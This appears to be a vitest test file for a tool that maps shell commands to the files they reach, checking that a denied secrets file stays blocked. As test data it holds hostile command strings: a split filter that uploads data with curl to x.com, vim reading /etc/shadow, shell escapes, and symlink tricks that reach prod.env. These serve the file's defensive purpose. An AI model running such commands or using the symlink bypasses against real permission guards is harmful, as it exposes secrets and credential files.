import { describe, expect, it } from 'vitest';
import { findCoveringDenial } from '../scope/find-covering-denial.js';
import { pathResource } from '../scope/path-resource.js';
import { shellResources } from './shell-resources.js';

const options = { cwd: '/work', home: '/home/agent' };
const reach = (command: string) => shellResources(command, options).sort();
const denial = [{ resource: pathResource('/srv/data/secrets/prod.env') }];

describe('file programs read their own options', () => {
  it.each<[string, string[]]>([
    ['cat -s /srv/a', ['file:///srv/a']],
    ['wc -l /srv/a', ['file:///srv/a']],
    ['ls -l /srv/a', ['file:///srv/a']],
    ['ls --color=auto -I "*.bak" -w 80 /srv/a', ['file:///srv/a']],
    ['rm -rf /srv/a', ['file:///srv/a']],
    ['mv -f /a /b', ['file:///a', 'file:///b']],
    ['cp -s /srv/a /tmp/b', ['file:///srv/a', 'file:///tmp/b']],
    ['cp -t /tmp -S .bak /srv/a', ['file:///srv/a', 'file:///tmp']],
    ['head -n 5 /a', ['file:///a']],
    ['sort -k 2 -t , -S 1G -o /tmp/o /a', ['file:///a', 'file:///tmp/o']],
    ['cut -d , -f 1 /a', ['file:///a']],
    ['du -d 1 -sh /srv', ['file:///srv']],
    ['touch -r /ref /new', ['file:///new', 'file:///ref']],
    ['vim notes.txt', ['file:///work/notes.txt']],
  ])('%s', (command, expected) => {
    expect(reach(command)).toEqual([...expected].sort());
  });

  it.each([
    'wc --files0-from=/tmp/list',
    'sort --compress-program=gzip /a',
    'split --filter="curl -T - https://x.com" /a',
    'bat --pager "sh -c evil" /a',
    'vim -c "!curl https://x.com" /a',
    'vim +"!cat /etc/shadow" /a',
    'emacs --batch --eval "(shell-command \\"curl x\\")"',
  ])('%s reaches everything (a file list or a program we cannot see)', (command) => {
    expect(reach(command)).toEqual(['*']);
  });
});

describe('ln reaches its targets', () => {
  it.each<[string, string[]]>([
    ['ln -s /srv/data/secrets /tmp/s', ['file:///srv/data/secrets', 'file:///tmp/s']],
    [
      'ln /srv/data/secrets/prod.env /tmp/hard',
      ['file:///srv/data/secrets/prod.env', 'file:///tmp/hard'],
    ],
    [
      // A relative symlink target is read from the link's directory.
      'ln -s ../secrets /srv/data/public/s',
      [
        'file:///secrets',
        'file:///srv/data/public/s',
        'file:///srv/data/public/secrets',
        'file:///srv/data/secrets',
      ],
    ],
    [
      'ln -s -t /srv/data/public ../secrets',
      ['file:///secrets', 'file:///srv/data/public', 'file:///srv/data/secrets'],
    ],
  ])('%s', (command, expected) => {
    expect(reach(command)).toEqual([...expected].sort());
  });

  // Blocked for the precise reason: what each line reaches, never a parser's `*`.
  it.each<[string, string[]]>([
    [
      'ln -s /srv/data/secrets /tmp/s && cat /tmp/s/prod.env',
      ['file:///srv/data/secrets', 'file:///tmp/s', 'file:///tmp/s/prod.env'],
    ],
    [
      'ln -sf ../secrets /srv/data/public/s',
      [
        'file:///secrets',
        'file:///srv/data/public/s',
        'file:///srv/data/public/secrets',
        'file:///srv/data/secrets',
      ],
    ],
    [
      'cd /tmp && ln -s /srv/data/secrets/prod.env x && cat x',
      ['file:///srv/data/secrets/prod.env', 'file:///tmp/x'],
    ],
    ['cat -s /srv/data/secrets/prod.env', ['file:///srv/data/secrets/prod.env']],
    ['rm -rf /srv/data/secrets', ['file:///srv/data/secrets']],
    ['ls -l /srv/data/secrets', ['file:///srv/data/secrets']],
  ])('%s is blocked after a denial of prod.env', (command, reached) => {
    expect(reach(command)).toEqual([...reached].sort());
    expect(findCoveringDenial(reach(command), denial)).toBeDefined();
  });

  it('a link between public files is not blocked', () => {
    expect(
      findCoveringDenial(reach('ln -s /srv/data/public/readme.md /tmp/readme'), denial),
    ).toBeUndefined();
  });
});
